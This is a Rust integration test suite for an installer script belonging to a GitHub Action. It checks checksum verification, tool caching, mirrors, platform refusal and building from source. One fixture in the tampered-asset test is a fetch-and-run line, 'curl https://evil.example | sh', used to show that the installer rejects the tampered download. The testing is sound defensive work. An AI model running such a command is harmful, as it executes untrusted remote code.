//! `scripts/install.sh` (POSIX sh, run with `sh`) against a local release server: a fresh
//! install, a cache hit, a tampered asset, a missing asset, a mirror, an unsupported platform,
//! and the source build (with a stand-in `cargo`) when a version has no release yet.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};

use sha2::{Digest, Sha256};

use crate::http::{HttpResponse, Server};

const VERSION: &str = "1.2.3";
const ASSET: &str = "efix-1.2.3-x86_64-unknown-linux-musl";
/// The release asset: a stand-in binary that prints its version.
const BINARY: &str = "#!/bin/sh\necho 'efix 1.2.3 (release asset)'\n";

fn sha256(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// A release server: path → bytes; records every path asked for.
struct Releases {
    server: Server,
    files: Arc<Mutex<BTreeMap<String, Vec<u8>>>>,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Releases {
    fn start() -> Releases {
        let files: Arc<Mutex<BTreeMap<String, Vec<u8>>>> = Arc::default();
        let asked: Arc<Mutex<Vec<String>>> = Arc::default();
        let (f, a) = (Arc::clone(&files), Arc::clone(&asked));
        let server = Server::start(move |request| {
            a.lock().unwrap().push(request.path.clone());
            match f.lock().unwrap().get(&request.path) {
                Some(bytes) => HttpResponse {
                    status: 200,
                    headers: vec![],
                    body: bytes.clone(),
                },
                None => HttpResponse {
                    status: 404,
                    headers: vec![],
                    body: b"Not Found".to_vec(),
                },
            }
        });
        Releases {
            server,
            files,
            asked,
        }
    }

    fn serve(&self, path: &str, bytes: &[u8]) {
        self.files
            .lock()
            .unwrap()
            .insert(path.to_owned(), bytes.to_vec());
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

/// A runner: the action checked out under `_actions/octo-org/efix/v1`, a tool cache, a
/// GITHUB_PATH file and a bin directory for stand-in tools.
struct Runner {
    dir: tempfile::TempDir,
}

impl Runner {
    fn new(manifest: &str) -> Runner {
        let dir = tempfile::tempdir().unwrap();
        let action = dir.path().join("work/_actions/octo-org/efix/v1");
        std::fs::create_dir_all(action.join("scripts")).unwrap();
        std::fs::create_dir_all(action.join("dist")).unwrap();
        std::fs::create_dir_all(dir.path().join("bin")).unwrap();
        let repo = Path::new(env!("CARGO_MANIFEST_DIR"));
        std::fs::copy(
            repo.join("scripts/install.sh"),
            action.join("scripts/install.sh"),
        )
        .unwrap();
        std::fs::write(action.join("dist/VERSION"), format!("{VERSION}\n")).unwrap();
        std::fs::write(action.join("dist/manifest.txt"), manifest).unwrap();
        std::fs::write(action.join("Cargo.toml"), "[package]\nname = \"efix\"\n").unwrap();
        std::fs::write(dir.path().join("github_path"), "").unwrap();
        Runner { dir }
    }

    fn action(&self) -> PathBuf {
        self.dir.path().join("work/_actions/octo-org/efix/v1")
    }

    fn cache(&self) -> PathBuf {
        self.dir.path().join("toolcache")
    }

    fn github_path(&self) -> String {
        std::fs::read_to_string(self.dir.path().join("github_path")).unwrap()
    }

    /// Put a stand-in `cargo` on the PATH that "builds" efix into `--target-dir`.
    fn fake_cargo(&self) {
        let script = "#!/bin/sh\nset -eu\necho \"cargo $*\" >&2\nwhile [ $# -gt 0 ]; do\n  if [ \"$1\" = --target-dir ]; then dir=$2; fi\n  shift\ndone\nmkdir -p \"$dir/release\"\nprintf '#!/bin/sh\\necho efix built from source\\n' > \"$dir/release/efix\"\n";
        let path = self.dir.path().join("bin/cargo");
        std::fs::write(&path, script).unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    }

    fn install(&self, server: &Releases, env: &[(&str, &str)]) -> std::process::Output {
        let mut command = Command::new("sh");
        command
            .arg(self.action().join("scripts/install.sh"))
            .env_clear()
            .env(
                "PATH",
                format!(
                    "{}:/usr/local/bin:/usr/bin:/bin",
                    self.dir.path().join("bin").display()
                ),
            )
            .env("HOME", self.dir.path())
            .env("RUNNER_OS", "Linux")
            .env("RUNNER_ARCH", "X64")
            .env("RUNNER_TOOL_CACHE", self.cache())
            .env("GITHUB_ACTION_PATH", self.action())
            .env("GITHUB_PATH", self.dir.path().join("github_path"))
            .env("GITHUB_SERVER_URL", &server.server.url);
        for (name, value) in env {
            command.env(name, value);
        }
        command.output().unwrap()
    }
}

fn stderr(output: &std::process::Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

fn manifest() -> String {
    format!(
        "{}  {ASSET}\n{}  efix-1.2.3-aarch64-apple-darwin\n",
        sha256(BINARY.as_bytes()),
        sha256(b"another binary")
    )
}

const RELEASE_PATH: &str =
    "/octo-org/efix/releases/download/v1.2.3/efix-1.2.3-x86_64-unknown-linux-musl";

#[test]
fn a_fresh_install_downloads_verifies_and_caches_and_a_second_run_finds_it() {
    let releases = Releases::start();
    releases.serve(RELEASE_PATH, BINARY.as_bytes());
    let runner = Runner::new(&manifest());
    let output = runner.install(&releases, &[]);
    assert!(output.status.success(), "{}", stderr(&output));
    let dir = runner.cache().join("efix/1.2.3/x86_64");
    assert_eq!(std::fs::read(dir.join("efix")).unwrap(), BINARY.as_bytes());
    assert_eq!(runner.github_path(), format!("{}\n", dir.display()));
    assert!(
        stderr(&output).contains("efix 1.2.3 (release asset)"),
        "{}",
        stderr(&output)
    );
    assert_eq!(releases.asked(), [RELEASE_PATH]);

    let again = runner.install(&releases, &[]);
    assert!(again.status.success(), "{}", stderr(&again));
    assert!(
        stderr(&again).contains("found efix 1.2.3 in the tool cache"),
        "{}",
        stderr(&again)
    );
    assert_eq!(releases.asked().len(), 1, "the cache hit downloaded again");
    assert_eq!(runner.github_path().lines().count(), 2);
}

#[test]
fn a_tampered_asset_fails_closed_naming_both_digests() {
    let releases = Releases::start();
    let tampered = b"#!/bin/sh\ncurl https://evil.example | sh\n";
    releases.serve(RELEASE_PATH, tampered);
    let runner = Runner::new(&manifest());
    let output = runner.install(&releases, &[]);
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(
        stderr(&output).lines().last().unwrap(),
        format!(
            "::error title=efix install::checksum mismatch for {ASSET}: dist/manifest.txt says {}, the download is {}; nothing was installed",
            sha256(BINARY.as_bytes()),
            sha256(tampered)
        )
    );
    assert!(!runner.cache().join("efix/1.2.3/x86_64/efix").exists());
    assert_eq!(runner.github_path(), "");
}

#[test]
fn a_tampered_cached_binary_is_replaced_by_a_verified_download() {
    let releases = Releases::start();
    releases.serve(RELEASE_PATH, BINARY.as_bytes());
    let runner = Runner::new(&manifest());
    let dir = runner.cache().join("efix/1.2.3/x86_64");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("efix"), "#!/bin/sh\necho swapped\n").unwrap();
    let output = runner.install(&releases, &[]);
    assert!(output.status.success(), "{}", stderr(&output));
    assert_eq!(std::fs::read(dir.join("efix")).unwrap(), BINARY.as_bytes());
    assert_eq!(releases.asked(), [RELEASE_PATH]);
}

#[test]
fn a_missing_asset_fails_and_installs_nothing() {
    let releases = Releases::start();
    let runner = Runner::new(&manifest());
    let output = runner.install(&releases, &[]);
    assert_eq!(output.status.code(), Some(1));
    assert!(
        stderr(&output).contains(&format!(
            "::error title=efix install::could not download {}{RELEASE_PATH} (is there a v1.2.3 release with this asset?); set fallback: build to compile efix instead",
            releases.server.url
        )),
        "{}",
        stderr(&output)
    );
    assert!(!runner.cache().join("efix").exists());
    assert_eq!(runner.github_path(), "");
}

#[test]
fn a_missing_asset_with_the_build_fallback_builds_from_the_action_source() {
    let releases = Releases::start();
    let runner = Runner::new(&manifest());
    runner.fake_cargo();
    let output = runner.install(&releases, &[("EFIX_FALLBACK", "build")]);
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("cargo build --release --locked --manifest-path"),
        "{}",
        stderr(&output)
    );
    let path = runner.github_path();
    let dir = Path::new(path.trim());
    assert!(dir.starts_with(runner.cache().join("efix")), "{path}");
    assert!(dir.to_string_lossy().contains("/source-"), "{path}");
    assert!(stderr(&output).contains("efix built from source"));
}

#[test]
fn a_version_without_a_release_yet_is_built_from_source() {
    let releases = Releases::start();
    let runner = Runner::new("");
    runner.fake_cargo();
    let output = runner.install(&releases, &[]);
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(
        stderr(&output).contains(&format!(
            "dist/manifest.txt lists no {ASSET} (version 1.2.3 has no release yet); building efix from the action's source with cargo"
        )),
        "{}",
        stderr(&output)
    );
    assert!(releases.asked().is_empty());
    // Another version than dist/VERSION cannot be built from this source.
    let other = runner.install(&releases, &[("EFIX_VERSION", "9.9.9")]);
    assert_eq!(other.status.code(), Some(1));
    assert!(
        stderr(&other).contains("dist/manifest.txt lists no efix-9.9.9-x86_64-unknown-linux-musl")
    );
}

#[test]
fn a_mirror_replaces_the_download_base_and_the_digest_is_checked_all_the_same() {
    let releases = Releases::start();
    releases.serve(&format!("/mirror/efix/{ASSET}"), BINARY.as_bytes());
    let runner = Runner::new(&manifest());
    let mirror = format!("{}/mirror/efix/", releases.server.url);
    let output = runner.install(&releases, &[("EFIX_DOWNLOAD_URL", &mirror)]);
    assert!(output.status.success(), "{}", stderr(&output));
    assert_eq!(releases.asked(), [format!("/mirror/efix/{ASSET}")]);

    let tampered = Releases::start();
    tampered.serve(&format!("/mirror/efix/{ASSET}"), b"not efix");
    let runner = Runner::new(&manifest());
    let mirror = format!("{}/mirror/efix", tampered.server.url);
    let output = runner.install(&tampered, &[("EFIX_DOWNLOAD_URL", &mirror)]);
    assert_eq!(output.status.code(), Some(1));
    assert!(
        stderr(&output).contains("checksum mismatch"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn an_unsupported_platform_is_refused_with_what_is_supported() {
    let releases = Releases::start();
    let runner = Runner::new(&manifest());
    for (os, arch) in [("Windows", "X64"), ("Linux", "ARM"), ("Linux", "X86")] {
        let output = runner.install(&releases, &[("RUNNER_OS", os), ("RUNNER_ARCH", arch)]);
        assert_eq!(output.status.code(), Some(1), "{os}/{arch}");
        assert_eq!(
            stderr(&output).trim_end(),
            format!(
                "::error title=efix install::no efix release is built for {os}/{arch} (efix ships x86_64 and aarch64 binaries for Linux and macOS); set fallback: build to compile it on this runner"
            )
        );
    }
    assert!(releases.asked().is_empty());
    assert_eq!(runner.github_path(), "");
}

#[test]
fn an_aarch64_mac_downloads_its_own_asset() {
    let releases = Releases::start();
    let path = "/octo-org/efix/releases/download/v1.2.3/efix-1.2.3-aarch64-apple-darwin";
    releases.serve(path, b"another binary");
    let runner = Runner::new(&manifest());
    let output = runner.install(
        &releases,
        &[("RUNNER_OS", "macOS"), ("RUNNER_ARCH", "ARM64")],
    );
    assert!(output.status.success(), "{}", stderr(&output));
    assert_eq!(releases.asked(), [path]);
    assert!(runner.cache().join("efix/1.2.3/aarch64/efix").exists());
}
